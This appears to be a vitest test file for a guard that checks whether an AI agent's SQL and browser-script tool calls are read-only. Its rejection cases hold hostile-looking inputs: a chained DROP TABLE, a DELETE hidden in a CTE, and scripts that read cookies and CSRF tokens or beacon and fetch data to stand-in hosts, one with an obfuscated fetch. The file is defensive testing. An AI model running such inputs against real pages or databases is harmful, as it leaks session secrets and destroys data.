import { describe, expect, it } from 'vitest';
import { evaluatesReadOnlyScript, runsReadOnlyQuery } from './read-only-calls.js';

describe('runsReadOnlyQuery', () => {
  it.each([
    ['mcp__salesforce__run_soql', 'SELECT COUNT() FROM Contact WHERE CreatedDate = THIS_WEEK'],
    ['mcp__snowflake__run_sql', "SELECT region, SUM(amount) FROM o WHERE d >= '2026-11-01'"],
    ['mcp__db__execute_sql', "SELECT name FROM t WHERE note = 'drop table; update'"],
  ])('reads with %s', (tool, query) => {
    expect(runsReadOnlyQuery({ tool, input: { query } })).toBe(true);
  });

  it.each([
    ['a write in a CTE', 'WITH d AS (DELETE FROM s RETURNING id) SELECT count(*) FROM d'],
    ['a table created from a select', 'CREATE TABLE x AS SELECT * FROM o'],
    ['SELECT INTO', 'SELECT * INTO archive FROM o'],
    ['a function with side effects', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity'],
    ['a second statement', 'SELECT 1; DROP TABLE o'],
    ['a row lock', 'SELECT Id FROM Contact FOR UPDATE'],
  ])('writes with %s', (_name, query) => {
    expect(runsReadOnlyQuery({ tool: 'mcp__db__run_sql', input: { query } })).toBe(false);
  });

  it('ignores tools that run no query language', () => {
    const input = { query: 'SELECT 1' };
    expect(runsReadOnlyQuery({ tool: 'mcp__crm__update_contact', input })).toBe(false);
  });
});

describe('evaluatesReadOnlyScript', () => {
  it.each([
    ['mcp__browser__evaluate', { script: "document.querySelector('.banner')?.textContent" }],
    ['mcp__playwright__browser_evaluate', { function: '() => document.title' }],
    ['mcp__puppeteer__evaluate', { script: "document.querySelectorAll('tr').length" }],
  ])('reads with %s', (tool, input) => {
    expect(evaluatesReadOnlyScript({ tool, input })).toBe(true);
  });

  it.each([
    ['cookies', "document.querySelector('#csrf').value + document.cookie"],
    ['a beacon', "navigator.sendBeacon('https://c.example.net/b', 'x')"],
    ['a fetch', "fetch('https://c.example.net/' + document.title)"],
    ['a submit', "() => document.querySelector('form').submit()"],
    ['an assignment', "document.querySelector('h1').textContent = 'x'"],
    ['a block body', '() => { return document.title; }'],
    ['a computed property', "window['fe' + 'tch']('/x')"],
    ['execCommand', "document.execCommand('delete')"],
    ['a class toggle', "document.body.classList.toggle('admin')"],
    ['jQuery', "$('#amount').val('0')"],
    ['a URL in a string', 'document.querySelector(\'a[href="https://evil.example"]\')'],
  ])('changes or sends with %s', (_name, script) => {
    expect(evaluatesReadOnlyScript({ tool: 'mcp__browser__evaluate', input: { script } })).toBe(
      false,
    );
  });

  it('ignores tools of other servers', () => {
    const input = { script: 'document.title' };
    expect(evaluatesReadOnlyScript({ tool: 'mcp__shell__run', input })).toBe(false);
  });
});
